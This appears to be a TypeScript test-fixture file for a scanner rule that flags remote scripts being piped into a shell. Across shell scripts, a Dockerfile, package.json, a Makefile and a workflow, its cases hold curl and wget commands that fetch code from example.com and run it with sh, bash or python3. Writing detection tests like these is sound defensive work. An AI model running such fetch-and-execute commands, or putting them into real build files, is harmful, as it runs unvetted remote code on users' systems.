import type { Table } from './table.ts';

export const remoteScript: Table = {
  bad: [
    {
      title: 'a shell',
      path: 'a.sh',
      after: 'curl -fsSL https://example.com/i.sh | sh\n',
      found: ['ask remote-script sh'],
    },
    {
      title: 'an image',
      policy: { default: 'allow', sources: { script: 'deny' } },
      path: 'Dockerfile',
      after: 'FROM node:22\nRUN curl -fsSL https://example.com/i.sh | bash -\n',
      found: ['deny remote-script bash'],
    },
    {
      title: 'a script of package.json',
      path: 'package.json',
      after: '{"scripts":{"x":"bash <(curl -s https://example.com/i.sh)"}}',
      found: ['ask remote-script bash'],
    },
    {
      title: 'another address',
      path: 'a.sh',
      before: 'curl https://example.com/a | sh\n',
      after: 'curl https://example.com/b | sh\n',
      found: ['ask remote-script sh'],
    },
    {
      title: 'a Makefile',
      path: 'Makefile',
      after: 'x:\n\twget -qO- https://example.com/i.py | python3\n',
      found: ['ask remote-script python3'],
    },
  ],
  good: [
    {
      title: 'a workflow, where the rule about pipelines tells it',
      policy: { sources: { script: 'deny' } },
      rules: { 'protected-path': 'off' },
      path: '.github/workflows/a.yml',
      after:
        'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://example.com/a | sh\n',
      found: ['deny pipeline-remote-script sh'],
    },
    {
      title: 'moved and indented',
      path: 'a.sh',
      before: 'curl https://example.com/a | sh\nls\n',
      after: 'ls\nif true; then\n  curl https://example.com/a | sh\nfi\n',
      found: [],
    },
    {
      title: 'fetched as data',
      path: 'a.sh',
      after: 'curl https://example.com/a.json | python3 -m json.tool\n',
      found: [],
    },
    {
      title: 'allowed',
      policy: { sources: { script: 'allow' } },
      path: 'a.sh',
      after: 'curl https://example.com/a | sh\n',
      found: [],
    },
    { title: 'removed', path: 'a.sh', before: 'curl https://example.com/a | sh\nls\n', after: 'ls\n', found: [] },
  ],
  unresolved: [
    {
      title: 'an address that a variable holds',
      path: 'a.sh',
      after: 'curl "$URL" | sh\n',
      found: ['ask remote-script sh'],
    },
  ],
};
